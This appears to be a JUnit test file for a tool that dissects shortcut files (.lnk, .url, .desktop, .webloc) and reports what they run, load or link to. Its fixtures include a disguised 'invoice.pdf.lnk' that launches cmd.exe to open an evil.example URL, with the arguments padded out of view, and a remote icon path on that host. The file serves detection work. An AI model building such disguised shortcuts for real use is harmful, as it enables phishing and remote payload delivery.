package gyotaku.dissect.small;

import static gyotaku.dissect.small.Asked.details;
import static gyotaku.dissect.small.Asked.open;
import static org.assertj.core.api.Assertions.assertThat;

import gyotaku.model.mail.Link;
import gyotaku.model.mail.Opened;
import gyotaku.model.mail.Trait;
import gyotaku.model.mail.Written;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.HexFormat;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ShortcutReadersTest {

    /// A shell link with the texts of MS-SHLLINK 2.4 that are given by their bit.
    private static byte[] link(Map<Integer, String> texts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        int flags = 1 << 7;
        for (int bit : texts.keySet()) {
            flags |= 1 << bit;
        }
        out.writeBytes(HexFormat.of().parseHex("4c0000000114020000000000c000000000000046"));
        out.writeBytes(HexFormat.of().parseHex(String.format("%08x", Integer.reverseBytes(flags))));
        out.writeBytes(new byte[0x4c - 24]);
        for (int bit = 2; bit <= 6; bit++) {
            String text = texts.get(bit);
            if (text != null) {
                out.write(text.length());
                out.write(text.length() >> 8);
                out.writeBytes(text.getBytes(StandardCharsets.UTF_16LE));
            }
        }
        return out.toByteArray();
    }

    @Test
    void whatAShortCutStartsIsToldWithItsArguments() {
        Opened opened = open(
                "invoice.pdf.lnk",
                link(Map.of(
                        3,
                        "..\\cmd.exe",
                        5,
                        " ".repeat(300) + "/c start https://evil.example/x",
                        6,
                        "\\\\evil.example\\s\\pdf.ico")));

        assertThat(details(opened, Trait.Kind.COMMAND)).containsExactly("..\\cmd.exe /c start https://evil.example/x");
        assertThat(details(opened, Trait.Kind.EXTERNAL_LOAD)).containsExactly("icon: \\\\evil.example\\s\\pdf.ico");
        assertThat(opened.links()).extracting(Written::url).contains("https://evil.example/x");
    }

    @Test
    void aShortCutThatIsCutTellsWhatIsThere() {
        byte[] whole = link(Map.of(5, "/c echo"));
        for (int length = 20; length < whole.length; length++) {
            assertThat(open("a.lnk", java.util.Arrays.copyOf(whole, length)).state())
                    .isIn(Opened.State.READ, Opened.State.BROKEN);
        }
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "a.url|[InternetShortcut]\\nURL=https://evil.example/|https://evil.example/",
                "a.url|[InternetShortcut]\\nURL=file://evil.example/s/a.exe|file://evil.example/s/a.exe",
                "a.desktop|[Desktop Entry]\\nType=Link\\nURL=https://evil.example/|https://evil.example/",
                "a.webloc|<plist><dict><key>URL</key><string>https://evil.example/</string></dict></plist>|https://evil.example/"
            })
    void whereAShortCutLeadsIsALink(String name, String text, String url) {
        assertThat(open(name, text.replace("\\n", "\n")).links())
                .containsExactly(new Written("", url, Link.Context.FILE, ""));
    }

    @Test
    void aBinaryPropertyListIsReadToo() {
        String url = "https://evil.example/long-enough";
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes("bplist00".getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(new byte[] {(byte) 0xd1, 1, 2, 0x53, 'U', 'R', 'L', 0x5f, 0x10, (byte) url.length()});
        out.writeBytes(url.getBytes(StandardCharsets.US_ASCII));
        out.writeBytes(new byte[32]);

        assertThat(open("a.webloc", out.toByteArray()).links())
                .extracting(Written::url)
                .containsExactly(url);
    }

    @Test
    void whatADesktopEntryRunsIsTold() {
        assertThat(details(open("a.desktop", "[Desktop Entry]\nExec=sh -c true\n"), Trait.Kind.COMMAND))
                .containsExactly("sh -c true");
    }
}
